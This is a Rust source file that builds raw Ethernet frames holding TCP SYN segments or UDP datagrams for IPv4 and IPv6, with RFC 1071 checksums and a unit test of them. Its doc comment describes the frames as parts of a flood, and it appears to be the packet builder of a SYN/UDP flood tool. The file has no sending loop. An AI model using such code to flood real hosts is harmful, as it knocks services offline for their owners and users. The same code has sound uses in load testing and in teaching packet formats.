//! Frames of a flood: a TCP SYN or a UDP datagram in Ethernet, built once and changed in place.

use std::net::{IpAddr, SocketAddr};

/// SYN or datagram.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    Syn,
    Udp,
}

/// Payload of a datagram, enough that a server answers.
const PAYLOAD: [u8; 8] = *b"flooding";

/// One frame's bytes.
pub fn build(kind: Kind, macs: ([u8; 6], [u8; 6]), from: SocketAddr, to: SocketAddr) -> Vec<u8> {
    let (to_mac, from_mac) = macs;
    let mut transport = Vec::with_capacity(64);
    transport.extend(from.port().to_be_bytes());
    transport.extend(to.port().to_be_bytes());
    let protocol: u8 = match kind {
        Kind::Syn => {
            // Sequence number, no acknowledgement, 24 bytes, SYN, window, checksum, urgent; MSS 1460.
            transport.extend([0, 1, 2, 3, 0, 0, 0, 0, 0x60, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
            transport.extend([2, 4, 5, 0xb4]);
            6
        }
        Kind::Udp => {
            let length = u16::try_from(8 + PAYLOAD.len()).unwrap_or_default();
            transport.extend(length.to_be_bytes());
            transport.extend([0, 0]);
            transport.extend(PAYLOAD);
            17
        }
    };
    let length = u16::try_from(transport.len()).unwrap_or_default();
    let (ethertype, header) = match (from.ip(), to.ip()) {
        (IpAddr::V4(from), IpAddr::V4(to)) => {
            let total = (length + 20).to_be_bytes();
            let mut ip = vec![
                0x45, 0, total[0], total[1], 0, 0, 0x40, 0, 64, protocol, 0, 0,
            ];
            ip.extend(from.octets());
            ip.extend(to.octets());
            let sum = checksum(&ip);
            ip.splice(10..12, sum.to_be_bytes());
            (0x0800_u16, ip)
        }
        (from, to) => {
            let octets = |ip: IpAddr| match ip {
                IpAddr::V4(v4) => v4.to_ipv6_mapped().octets(),
                IpAddr::V6(v6) => v6.octets(),
            };
            let mut ip = vec![0x60, 0, 0, 0];
            ip.extend(length.to_be_bytes());
            ip.extend([protocol, 64]);
            ip.extend(octets(from));
            ip.extend(octets(to));
            (0x86dd, ip)
        }
    };
    // The addresses stand behind each other at the header's end in both families.
    let addresses = header.get(if ethertype == 0x0800 { 12.. } else { 8.. });
    let pseudo = [
        addresses.unwrap_or_default(),
        &[0, protocol],
        &length.to_be_bytes(),
        &transport,
    ]
    .concat();
    let at = if kind == Kind::Syn { 16..18 } else { 6..8 };
    transport.splice(at, checksum(&pseudo).to_be_bytes());
    [
        &to_mac[..],
        &from_mac,
        &ethertype.to_be_bytes(),
        &header,
        &transport,
    ]
    .concat()
}

/// RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_hold() {
        for (from, to) in [
            ("192.0.2.1:1", "198.51.100.1:80"),
            ("[2001:db8::1]:1", "[2001:db8::2]:80"),
        ] {
            for kind in [Kind::Syn, Kind::Udp] {
                let (from, to): (SocketAddr, SocketAddr) =
                    (from.parse().unwrap(), to.parse().unwrap());
                let frame = build(kind, ([1; 6], [2; 6]), from, to);
                let v4 = from.is_ipv4();
                let (ip, rest) = frame[14..].split_at(if v4 { 20 } else { 40 });
                if v4 {
                    assert_eq!(checksum(ip), 0);
                }
                let protocol = if kind == Kind::Syn { 6 } else { 17 };
                let length = u16::try_from(rest.len()).unwrap().to_be_bytes();
                let addresses = &ip[if v4 { 12 } else { 8 }..];
                let pseudo = [addresses, &[0, protocol], &length, rest].concat();
                assert_eq!(checksum(&pseudo), 0, "{kind:?} {from}");
            }
        }
    }
}
